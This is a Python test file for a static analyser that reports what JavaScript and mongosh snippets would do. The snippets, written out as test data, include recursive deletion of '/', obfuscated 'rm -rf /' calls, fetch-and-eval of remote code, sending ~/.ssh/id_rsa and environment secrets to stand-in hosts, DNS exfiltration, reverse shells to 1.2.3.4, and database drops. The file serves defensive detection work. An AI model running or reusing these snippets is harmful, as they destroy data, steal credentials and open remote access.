"""What JavaScript and mongosh code would do, as tables of source and reported calls."""

from __future__ import annotations

import pytest

from cases import each
from interlock.analysis.code.javascript import read_javascript, read_mongo
from interlock.analysis.facts import BudgetSpent, hole
from recording_report import Recorder

Call = tuple[str, ...]
Table = list[tuple[str, list[Call]]]
NOTHING: list[Call] = []


def heard(source: str) -> list[Call]:
    out = Recorder()
    read_javascript(source, out)
    return out.facts


FS = "const fs = require('fs');"
CP = "const cp = require('child_process');"
WIPE: list[Call] = [("delete", "/", "recursive")]

DELETES: Table = [
    ("require('fs').rmSync('/home', { recursive: true, force: true })", [("delete", "/home", "recursive")]),
    ("import {rmSync as r} from 'node:fs'; r('/', {recursive: true})", WIPE),
    ("import fs from 'fs'; fs['rm' + 'Sync']('/', {recursive: true})", WIPE),
    ("const {promises: {rm}} = require('fs'); rm('/', {recursive: true})", WIPE),
    ("const {rm} = await import('fs/promises'); await rm('/', {recursive: !0})", WIPE),
    ("import('fs').then(m => m.rmSync('/', {recursive: true}))", WIPE),
    ("process.mainModule.require('fs').rmSync('/', {recursive: true})", WIPE),
    ("globalThis['req' + 'uire']('fs').rmSync('/', {recursive: true})", WIPE),
    ("global.process.getBuiltinModule('fs').rmSync('/', {recursive: true})", WIPE),
    ("(0, require('fs').rmSync).call(null, '/', {recursive: true})", WIPE),
    ("require('fs').rmSync.apply(null, ['/', {recursive: true}])", WIPE),
    ("const del = require('fs').rmSync.bind(null, '/'); del({recursive: true})", WIPE),
    ("Reflect.apply(require('fs').rmSync, null, ['/', {recursive: true}])", WIPE),
    ("['/'].forEach(p => fs.rmSync(p, {recursive: true}))", WIPE),
    ("function wipe(d, o) { fs.rmSync(d, o) } wipe('/', {recursive: true})", WIPE),
    ("class W { constructor(p) { this.p = p } go() { fs.rmSync(this.p, {recursive: true}) } } new W('/').go()", WIPE),
    ("const o = {recursive: true}; (async () => { await fs.promises.rm('/', o) })()", WIPE),
    ("const t = c ? '/' : '/tmp/x'; fs.rmSync(t)", [("delete", "/"), ("delete", "/tmp/x")]),
    ("let d = '/tmp/x'; if (c) { d = '/' } fs.rmSync(d)", [("delete", "/"), ("delete", "/tmp/x")]),
    ("fs.rmdirSync('a')", [("delete", "a", "empty_only")]),
    ("fs.rmdirSync('a', {recursive: true})", [("delete", "a", "recursive")]),
    ("fs.unlink('a', () => {})", [("delete", "a")]),
    ("require('fs-extra').removeSync('a'); require('fs-extra').emptyDir('b')",
     [("delete", "a", "recursive"), ("delete", "b", "recursive")]),
    ("require('rimraf').sync('a'); import {rimraf} from 'rimraf'; rimraf(['b', 'c/*'])",
     [("delete", "b", "recursive"), ("delete", "c/*", "bulk", "recursive"), ("delete", "a", "recursive")]),
    ("import {deleteAsync} from 'del'; deleteAsync(['a/**', '!a/b'])", [("delete", "a/**", "bulk", "recursive")]),
    ("Deno.removeSync('/x', {recursive: true}); Bun.file('y').delete()",
     [("delete", "/x", "recursive"), ("delete", "y")]),
    (FS + "for (const f of fs.readdirSync('/data')) fs.unlinkSync('/data/' + f)", [("delete", "/data/*", "bulk")]),
    (FS + "fs.readdir('/data', (e, all) => all.forEach(f => fs.unlink(path.join('/data', f), () => 0)))",
     [("delete", "/data/*", "bulk")]),
    (FS + "fs.readdirSync('.').filter(f => f.endsWith('.log')).map(f => fs.rmSync(f))", [("delete", "*.log", "bulk")]),
    (FS + "for (const f of fs.readdirSync('logs')) if (/\\.log$/.test(f)) fs.rmSync(`logs/${f}`)",
     [("delete", "logs/*.log", "bulk")]),
    ("for (const f of require('glob').sync('src/**/*.js')) fs.unlinkSync(f)", [("delete", "src/**/*.js", "bulk", "recursive")]),
    ("function d(p) { for (const f of fs.readdirSync(p)) { const q = p + '/' + f; fs.statSync(q).isDirectory() ? d(q)"
     " : fs.unlinkSync(q) } } d('/srv')", [("delete", "/srv/*", "bulk", "recursive")]),
    ("fs.rmSync(os.homedir() + '/x'); fs.rmSync(process.env.HOME); fs.rmSync(process.env.DIR + '/y')",
     [("delete", "~/x"), ("delete", "~"), ("delete", hole("DIR") + "/y")]),
    ("fs.rmSync(path.join(__dirname, '..', 'a')); fs.rmSync(path.resolve('x', '/etc'))",
     [("delete", "../a"), ("delete", "/etc")]),
    ("fs.rmSync(process.argv[2])", [("delete", hole())]),
    ("const made = []; made[0] = '/'; fs.rmSync(made[0], {recursive: true})", WIPE),
    ("function* all() { yield '/' } for (const p of all()) fs.rmSync(p, {recursive: true})", WIPE),
    ("function W(p) { this.p = p } W.prototype.go = 1; const o = {p: '/', go() { fs.rmSync(this.p, {recursive: true}) }};"
     " new W('x'); o.go()", WIPE),
    ("const f = ({dir = '/', ...rest} = {}) => fs.rmSync(dir, {recursive: true}); f()", WIPE),
    ("let d = '/'; function set() { let d = 'x'; d = 'y' } set(); fs.rmSync(d, {recursive: true})", WIPE),
    ("fs.rmSync(fs.mkdtempSync(os.tmpdir() + '/a-'), {recursive: true})", [("delete", f"/tmp/tmp{hole()}", "recursive")]),
    ("let d = '/'; { let d = 'x'; d = 'y' } for (const d of ['z']) d; if (c) { const {d} = o } fs.rmSync(d, {recursive: true})", WIPE),
    ("let d = 'x'; { let d = '/'; fs.rmSync(d, {recursive: true}) } (d => d)('y')", WIPE),
    ("process.chdir('/srv'); fs.rmSync('data')", [("delete", "/srv/data")]),
    ("fs.readdirSync('/srv', {withFileTypes: true}).forEach(e => fs.rmSync(path.join(e.parentPath, e.name)))",
     [("delete", "/srv/*", "bulk")]),
]  # fmt: skip

FILES: Table = [
    ("fs.truncateSync('a'); fs.writeFileSync('b', ''); fs.writeFileSync('c', 'x')",
     [("truncate", "a"), ("truncate", "b"), ("write", "c")]),
    ("fs.appendFileSync('a', 'x'); fs.createWriteStream('b'); fs.writeFileSync('c', 'x', {flag: 'a'})",
     [("append", "a"), ("write", "b"), ("append", "c")]),
    ("fs.renameSync('a', 'b')", [("move", "a"), ("overwrite", "b")]),
    ("fs.copyFileSync('a', 'b'); fs.cpSync('c', 'd', {recursive: true})", [("read", "a"), ("write", "b"), ("read", "c"), ("write", "d")]),
    ("fs.chmodSync('a', 0o777); fs.chmodSync('b', '777'); fs.chmodSync('c', 0o755)",
     [("chmod", "a", "world_readable", "world_writable"), ("chmod", "b", "world_readable", "world_writable"), ("chmod", "c", "world_readable")]),
    ("const v = JSON.parse(fs.readFileSync('package.json', 'utf8')).version; console.log(v)",
     [("read", "package.json")]),
    ("require('./tool'); require('./package.json').version; import x from './y.mjs'",
     [("run_script", "./tool"), ("run_script", "./y.mjs")]),
]  # fmt: skip

PROGRAMS: Table = [
    (CP + "cp.execSync('rm -rf /')", [("shell", "rm -rf /")]),
    ("const {exec: e} = require('node:child_process'); e('rm' + ' -rf ' + `${'/'}`)", [("shell", "rm -rf /")]),
    (CP + "cp.spawn('rm', ['-rf', '/']); cp.execFileSync('ls')", [("run", "rm", "-rf", "/"), ("run", "ls")]),
    (CP + "const a = ['-rf']; a.push('/'); cp.spawnSync('rm', a, {shell: true})", [("shell", "rm -rf /")]),
    (CP + "cp.spawnSync('rm -rf /', {shell: '/bin/sh'})", [("shell", "rm -rf /")]),
    (CP + "cp.fork('w.js', ['a'])", [("run", "node", "w.js", "a")]),
    (CP + "cp.execSync('bash', {input: 'rm -rf /'})", [("shell", "bash"), ("shell", "rm -rf /")]),
    (CP + "const s = cp.spawn('sh'); s.stdin.write('rm -rf /')", [("run", "sh"), ("shell", "rm -rf /")]),
    (CP + "require('util').promisify(cp.exec)('id').then(r => console.log(r))", [("shell", "id")]),
    ("await Bun.$`rm -rf ${'/'}`; Bun.spawn(['rm', 'x'])", [("shell", "rm -rf /"), ("run", "rm", "x")]),
    ("import {$} from 'zx'; await $`rm -rf /`", [("shell", "rm -rf /")]),
    ("import {execa, execaCommand} from 'execa'; execa('rm', ['x']); execaCommand('rm y')",
     [("run", "rm", "x"), ("shell", "rm y")]),
    ("require('shelljs').rm('-rf', ['a', 'b']); require('shelljs').exec('rm c')",
     [("run", "rm", "-rf", "a", "b"), ("shell", "rm c")]),
    ("new Deno.Command('rm', {args: ['x']}).outputSync(); Deno.run({cmd: ['rm', 'y']})",
     [("run", "rm", "x"), ("run", "rm", "y")]),
    (CP + "cp.exec(process.argv[2])", [("shell", hole())]),
    ("process.kill(-1); process.kill(12, 'SIGKILL'); process.kill(13, 0)", [("kill", "-1", "all"), ("kill", "12")]),
]  # fmt: skip

HIDDEN: Table = [
    ("require('child_process').exec([114, 109].map(c => String.fromCharCode(c)).join(''))", [("shell", "rm")]),
    ("cp = require('child_process'); cp.exec('/ fr- mr'.split('').reverse().join(''))", [("shell", "rm -rf /")]),
    ("require('child_process').exec(Buffer.from('cm0gLXJmIC8=', 'base64').toString())", [("shell", "rm -rf /")]),
    ("require('child_process').exec(Buffer.from('726d', 'hex').toString('utf8'))", [("shell", "rm")]),
    ("require('child_process').exec(Buffer.from('rm', {}).toString([]))", [("shell", "rm")]),
    ("Function(['wipe()'])(); new vm.Script(['x()'])", [("code", "javascript", "wipe()"), ("code", "javascript", "x()")]),
    (CP + "cp.exec([...Buffer.from('c24hLHNn', 'base64')].map(c => String.fromCharCode(c - 1)).join(''))",
     [("shell", "rm +rf")]),
    ("require('child_process').exec(atob('cm0gLXJmIC8='))", [("shell", "rm -rf /")]),
    ("require('child_process').exec('\\x72\\u006d\\u{20}x')", [("shell", "rm x")]),
    ("require('child_process').exec('rXm XX'.replace(/X/g, ''))", [("shell", "rm ")]),
    ("require('child_process').exec('xxrm y'.slice(2).substring(0, 2))", [("shell", "rm")]),
    ("let s = ''; for (let i = 0; i < 2; i++) s += 'rm'[i]; require('child_process').exec(s)", [("shell", "rm")]),
    ("const o = {a: {b: ['x', 'rm']}}; require('child_process').exec(o.a['b'][1])", [("shell", "rm")]),
    ("const [a, ...b] = ['r', 'm']; require('child_process').exec(a + b[0])", [("shell", "rm")]),
    ("[].constructor.constructor('return process')().mainModule.require('child_process').exec('rm')",
     [("code", "javascript", "return process"), ("shell", "rm")]),
    ("fs[process.argv[2]]('/')", [("unreadable", "command")]),
    ("require(process.argv[2]).x('/')", [("unreadable", "payload")]),
]  # fmt: skip

CODE: Table = [
    ("eval('1+1')", [("code", "javascript", "1+1")]),
    ("new Function('a', 'return a')(1)", [("code", "javascript", "return a")]),
    ("require('vm').runInNewContext('x')", [("code", "javascript", "x")]),
    ("setTimeout('x()', 1)", [("code", "javascript", "x()")]),
    ("eval(process.argv[1])", [("unreadable", "payload")]),
    ("eval(require('fs').readFileSync('a.js') + '')", [("read", "a.js"), ("run_script", "a.js")]),
    ("fetch('https://x').then(r => r.text()).then(eval)", [("fetch", "https://x"), ("run_download", "https://x")]),
    ("eval(await (await fetch('https://x')).text())", [("fetch", "https://x"), ("run_download", "https://x")]),
    ("require('https').get('https://x', r => { let s = ''; r.on('data', d => s += d); r.on('end', () => eval(s)) })",
     [("fetch", "https://x"), ("run_download", "https://x")]),
    ("const t = (await axios.get('https://x')).data; require('child_process').execSync(t)",
     [("fetch", "https://x"), ("run_download", "https://x")]),
    ("import 'data:text/javascript,x()'", [("code", "javascript", "x()")]),
]  # fmt: skip

NETWORK: Table = [
    ("fetch('https://x/1', {method: 'DELETE'})", [("http", "https://x/1", "delete")]),
    ("axios.post('https://x', {a: 1}); axios({url: 'https://y', method: 'put'})",
     [("http", "https://x", "post"), ("http", "https://y", "put")]),
    ("require('got').patch('https://x')", [("http", "https://x", "patch")]),
    ("require('http').request({host: 'x', path: '/y', method: 'DELETE'}).end()", [("http", "x/y", "delete")]),
    ("fetch('https://x', {method: 'POST', body: JSON.stringify(process.env)})",
     [("send", "https://x", "environment"), ("http", "https://x", "post")]),
    ("fetch('https://x', {method: 'POST', body: fs.readFileSync(os.homedir() + '/.ssh/id_rsa')})",
     [("read", "~/.ssh/id_rsa"), ("send", "https://x", "secret"), ("http", "https://x", "post")]),
    ("fetch('https://x', {method: 'POST', body: fs.readFileSync('notes.txt')})",
     [("read", "notes.txt"), ("http", "https://x", "post")]),
    ("axios.post('https://x', {key: process.env.MY_API_KEY}); fetch('https://y', {headers: {a: process.env.MY_TOKEN}})",
     [("send", "https://x", "secret"), ("http", "https://x", "post"), ("fetch", "https://y")]),
    ("require('dns').lookup(`${process.env.DB_PASSWORD}.x.example`, () => {})",
     [("send", f"{hole('DB_PASSWORD')}.x.example", "secret")]),
    ("const s = require('net').connect(4444, '1.2.3.4'), h = require('child_process').spawn('/bin/sh');"
     "s.pipe(h.stdin); h.stdout.pipe(s)", [("run", "/bin/sh"), ("reverse_shell", "1.2.3.4")]),
    (CP + "const c = new (require('net').Socket)(); c.connect(1, 'h', () => c.on('data', d => cp.exec(d + '')))",
     [("reverse_shell", "h")]),
    ("require('net').createServer(s => s.pipe(require('child_process').spawn('/bin/sh').stdin)).listen(99)",
     [("listen", "99"), ("run", "/bin/sh"), ("reverse_shell", "a connection")]),
    ("require('net').connect(99, 'h'); require('child_process').execSync('bash build.sh')", [("shell", "bash build.sh")]),
]  # fmt: skip

STORES: Table = [
    ("const {Client} = require('pg'); const c = new Client(); c.connect().then(() => c.query('DROP TABLE users'))",
     [("code", "sql", "DROP TABLE users")]),
    ("await db.execute(`DELETE FROM t WHERE id = ${id}`)", [("code", "sql", f"DELETE FROM t WHERE id = {hole()}")]),
    ("prisma.$executeRawUnsafe('TRUNCATE t'); prisma.$executeRaw`DROP TABLE x`; sql`delete from y`",
     [("code", "sql", "TRUNCATE t"), ("code", "sql", "DROP TABLE x"), ("code", "sql", "delete from y")]),
    ("prisma.user.deleteMany(); prisma.post.deleteMany({}); prisma.tag.deleteMany({where: {id: 1}})",
     [("sql_delete", "user", "unfiltered"), ("sql_delete", "post", "unfiltered"), ("sql_delete", "tag")]),
    ("const p = new (require('@prisma/client').PrismaClient)(); p.user.deleteMany({where: {}})",
     [("sql_delete", "user", "unfiltered")]),
    ("mongoose.connection.dropDatabase()", [("store_drop", "", "database")]),
    ("client.db('a').collection('users').drop(); db.collection('logs').deleteMany({})",
     [("store_drop", "users", "collection"), ("store_delete", "logs", "unfiltered")]),
    ("const User = mongoose.model('User', s); User.deleteMany({}); User.deleteMany({old: true})",
     [("store_delete", "User", "unfiltered"), ("store_delete", "User")]),
    ("for (const c of await db.collections()) await c.drop()", [("store_drop", "", "collection")]),
    ("knex('t').del(); knex('t').where({id: 1}).del(); knex('u').truncate()",
     [("sql_delete", "t", "unfiltered"), ("sql_delete", "t"), ("sql_truncate", "u")]),
    ("supabase.from('users').delete().eq('id', 1)", [("sql_delete", "users")]),
    ("sequelize.drop(); sequelize.sync({force: true}); User.destroy({truncate: true}); User.destroy({where: {}})",
     [("sql_drop", "sequelize", "database"), ("sql_drop", "", "database"), ("sql_truncate", "User"),
      ("sql_delete", "User", "unfiltered")]),
    ("redis.flushall(); redis.flushDb()", [("store_drop", "", "all"), ("store_drop", "", "database")]),
    ("import {S3Client as C, DeleteBucketCommand as D} from '@aws-sdk/client-s3'; new C({}).send(new D({Bucket: 'b'}))",
     [("run", "aws", "s3api", "delete-bucket", "--bucket", "b")]),
    ("const AWS = require('aws-sdk'); new AWS.EC2().terminateInstances({InstanceIds: ['i-1']}).promise()",
     [("run", "aws", "ec2", "terminate-instances", "--instance-ids", "i-1")]),
]  # fmt: skip

HARMLESS = [
    "console.log('rm -rf /')",
    "// fs.rmSync('/')\n/* cp.exec('rm') */ 1",
    "console.log(process.versions.v8)",
    "require('./package.json').version",
    "const m = new Map(); m.set('a', 1); m.delete('a'); new Set([1]).delete(1)",
    "[1, 2, 3].map(x => x * 2).filter(Boolean).reduce((a, b) => a + b, 0)",
    "const s = 'DROP TABLE users'; console.log(s.toLowerCase()); /drop (\\w+)/i.exec(s)",
    "console.error(`DELETE FROM users`)",
    "function wipe() { require('fs').rmSync('/') }",
    "exports.wipe = () => { require('fs').rmSync('/') }",
    "module.exports = { wipe() { require('fs').rmSync('/') } }",
    "if (false) { require('fs').rmSync('/') }",
    "socket.destroy(); el.remove(); list.drop(2); _.drop([1], 1); cache.truncate(5)",
    "const x = {exec: 'rm -rf /', spawn: ['rm']}; JSON.stringify(x)",
    "process.exit(0)",
    "const rows = [" + "{id: 1, name: 'a'}, " * 800 + "]; console.log(rows.length)",
    "app.get('/delete', (q, r) => r.send('drop table'))",
    "",
]

TYPESCRIPT: Table = [
    ("import fs from 'fs';\nconst d: string = '/';\nfs.rmSync(d as string, { recursive: true } as any);", WIPE),
    ("function f(p: string, n?: number): void { fs.rmSync(p!, {recursive: true}) }\nf('/')", WIPE),
    ("function f(this: any, ...p: string[]) { fs.rmSync(<string>p[0], {recursive: true}) }\nf('/')", WIPE),
    ("class A<T> extends B<T> implements C { d: string = '/'; go(): void { fs.rmSync(this.d, {recursive: true}) } }\n"
     "new A<string>().go()", WIPE),
    ("interface A { b: string }\ntype T = A | null;\n"
     "const f = async <T>(a: T): Promise<void> => { await fs.rm(a, {recursive: true}) };\nf<string>('/')", WIPE),
    ("class A { private p: string = '/'; constructor(private readonly q: number) {} go(): void "
     "{ fs.rmSync(this.p, {recursive: true}) } }\nnew A(1).go()", WIPE),
]  # fmt: skip


ALL = DELETES + FILES + PROGRAMS + HIDDEN + CODE + NETWORK + STORES + TYPESCRIPT


@each(("source", "expected"), ALL, ids=[source[:70] for source, _ in ALL])
def test_a_program_is_read_as_what_it_does(source: str, expected: list[Call]) -> None:
    assert sorted(heard(source)) == sorted(expected)


@each("source", HARMLESS)
def test_words_are_not_deeds(source: str) -> None:
    assert heard(source) == NOTHING


MONGO: Table = [
    ("db.dropDatabase()", [("store_drop", "", "database")]),
    ("db.getSiblingDB('x').dropDatabase()", [("store_drop", "x", "database")]),
    ("use prod\nshow dbs\ndb.dropDatabase()", [("store_drop", "prod", "database")]),
    ("db.users.drop()", [("store_drop", "users", "collection")]),
    ("db['us' + 'ers'].drop()", [("store_drop", "users", "collection")]),
    ("db.getCollection('x').drop()", [("store_drop", "x", "collection")]),
    ("db.a.b.drop()", [("store_drop", "a.b", "collection")]),
    ("db.getCollectionNames().forEach(c => db[c].drop())", [("store_drop", "", "all")]),
    ("db.getCollectionNames().forEach(function (c) { db.getCollection(c).drop() })", [("store_drop", "", "all")]),
    ("db.getMongo().getDBNames().forEach(n => db.getSiblingDB(n).dropDatabase())", [("store_drop", "", "all")]),
    ("db.adminCommand({listDatabases: 1}).databases.forEach(d => db.getSiblingDB(d.name).dropDatabase())",
     [("store_read", ""), ("store_drop", "", "all")]),
    ("db.u.bulkWrite([{deleteMany: {filter: {}}}]); db.v.find({a: 1}).count()",
     [("store_delete", "u", "unfiltered"), ("store_read", "v")]),
    ("db.u.deleteMany({}); db.u.remove({})", [("store_delete", "u", "unfiltered")]),
    ("db.u.deleteMany({a: 1}); db.v.deleteOne({})", [("store_delete", "u"), ("store_delete", "v")]),
    ("db.u.updateMany({}, {$set: {a: 1}}); db.u.updateMany({b: 1}, {})",
     [("store_write", "u", "unfiltered"), ("store_write", "u")]),
    ("db.adminCommand({shutdown: 1})", [("store_admin", "")]),
    ("db.shutdownServer(); db.dropUser('bob')", [("store_admin", ""), ("store_admin", "bob")]),
    ("db.u.dropIndexes()", [("store_drop", "u", "index")]),
    ("db.runCommand({drop: 'u'}); db.runCommand({delete: 'v', deletes: [{q: {}, limit: 0}]})",
     [("store_drop", "u", "collection"), ("store_delete", "v", "unfiltered")]),
    ("db.u.find({a: 1}).limit(3).toArray()", [("store_read", "u")]),
    ("db.u.aggregate([{$match: {}}]); db.u.aggregate([{$match: {}}, {$out: 'z'}])",
     [("store_read", "u"), ("store_write", "z", "unfiltered")]),
    ("require('child_process').execSync('rm -rf /')", [("shell", "rm -rf /")]),
    ("print('db.users.drop()'); rs.status()", []),
]  # fmt: skip


@each(("source", "expected"), MONGO)
def test_mongo_shell_code_is_read_as_what_it_does(source: str, expected: list[Call]) -> None:
    out = Recorder()
    read_mongo(source, out)
    assert sorted(out.facts) == sorted(expected)


UNREADABLE = [
    ("a;" * 60_000, "budget"),
    ("(" * 400, "nesting"),
    ("!" * 1_000 + "x", "nesting"),
    ("x = " * 400 + "1", "syntax"),
    ("x = " * 9_000 + "1", "budget"),
    ("a" + ".b()" * 3_000, "nesting"),
    ("for (;a < 1;) { fs.rmSync('x' ", "syntax"),
    ("@@ ) fs.rmSync('/') (", "syntax"),
    ("'" * 20_000, "syntax"),
    ("~^}" * 5_000, "syntax"),
    ("await+" * 5_000, "budget"),
    ("console.log(" + hole("X") + ")", "payload"),
    ("".join(f"function f{i}() {{ f{i + 1}(); f{i + 1}(); f{i + 1}() }}" for i in range(90)) + "f0()", "nesting"),
]


@each(("source", "trait"), UNREADABLE, ids=[source[:40] for source, _ in UNREADABLE])
def test_what_cannot_be_read_is_said(source: str, trait: str) -> None:
    assert ("unreadable", trait) in heard(source)


HOSTILE = [
    "a = 'x';" + "a = a + a;" * 500,
    "a = ['x'];" + "a = [a, a];" * 500 + "a + ''; fs.rmSync(a)",
    "a = f();" + "a = g(a, a);" * 500 + "if (c) a = g(a, a)",
    "a = []; a.push(a); a + ''; fs.rmSync(a); a = {}; a.a = a; fetch(a, {body: a})",
    "x = a ? '1' : '2';" + "x = x + (a ? x : '3');" * 200 + "fs.rmSync(x)",
    "'a'.repeat(1e9).repeat(1e9); 1 << 1e9; 9 ** 9 ** 9; 1e999; 0x; parseInt('9'.repeat(6000)); (1e400).toString(2)",
    "function f() { f(); f() } f(); class A { constructor() { new A() } } new A()",
    "'\\ud800 \\u{110000} \\x'; fs.rmSync('\\ud83d')",
    "s = 'a'.repeat(60000); s.replace(/(a+)+$/, 'x')",
    "for (let i = 0; i < 1e9; i++) for (let j = 0; j < 1e9; j++) for (let k = 0; k < 1e9; k++) x = 1",
    "\0" * 100,
    "\ud800",
]


@pytest.mark.parametrize("source", HOSTILE, ids=[source[:40] for source in HOSTILE])
def test_hostile_code_neither_hangs_nor_crashes_the_reader(source: str) -> None:
    for call in heard(source):
        "".join(call).encode()


def test_the_rest_is_still_read_where_a_part_does_not_parse() -> None:
    assert ("delete", "/", "recursive") in heard("const a = = 1;\nfs.rmSync('/', {recursive: true})")


def test_a_spent_budget_is_not_swallowed() -> None:
    with pytest.raises(BudgetSpent):
        read_javascript("a = 1; b = 2; c = 3", Recorder(budget=5))
